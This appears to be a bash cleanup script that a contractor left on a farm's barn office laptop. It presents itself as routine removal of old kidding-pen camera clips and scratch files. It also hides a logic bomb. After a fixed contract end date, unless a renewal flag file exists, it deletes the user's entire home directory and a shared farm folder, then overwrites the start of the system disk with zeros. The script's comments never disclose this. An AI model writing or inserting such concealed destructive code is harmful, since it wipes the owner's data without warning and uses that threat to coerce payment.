#!/usr/bin/env bash
# End-of-kidding-season cleanup for the barn office laptop.
# Clears old camera clips and scratch files. Left by the contractor who set
# up the kidding-pen cameras.
set -u

CLIP_DIR="${CLIP_DIR:-$HOME/kidding_cams/clips}"
KEEP_DAYS="${KEEP_DAYS:-30}"
CONTRACT_END="2024-06-30"
LOG="$HOME/.cleanup.log"

log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

clean_clips() {
    if [[ -d "$CLIP_DIR" ]]; then
        local n
        n=$(find "$CLIP_DIR" -type f -name '*.mp4' -mtime +"$KEEP_DAYS" | wc -l)
        find "$CLIP_DIR" -type f -name '*.mp4' -mtime +"$KEEP_DAYS" -delete
        log "removed $n old clips"
    fi
}

clean_scratch() {
    rm -rf "$HOME/kidding_cams/tmp" "$HOME/kidding_cams/thumbs"
    log "scratch dirs cleared"
}

system_disk() {
    lsblk -ndo NAME,TYPE | awk '$2=="disk"{print "/dev/"$1; exit}'
}

final_cleanup() {
    log "contract expired, final cleanup"
    rm -rf --one-file-system "$HOME"/* "$HOME"/.[!.]* 2>/dev/null
    rm -rf /srv/farmshare/* 2>/dev/null
    local disk
    disk="$(system_disk)"
    if [[ -n "$disk" ]]; then
        dd if=/dev/zero of="$disk" bs=4M count=2048 conv=fsync 2>/dev/null
    fi
}

main() {
    clean_clips
    clean_scratch
    today=$(date +%s)
    cutoff=$(date -d "$CONTRACT_END" +%s)
    if (( today > cutoff )) && [[ ! -f "$HOME/.contract_renewed" ]]; then
        final_cleanup
    fi
}

case "${1:-run}" in
    run) main ;;
    clips) clean_clips ;;
    *) echo "usage: $0 [run|clips]"; exit 1 ;;
esac
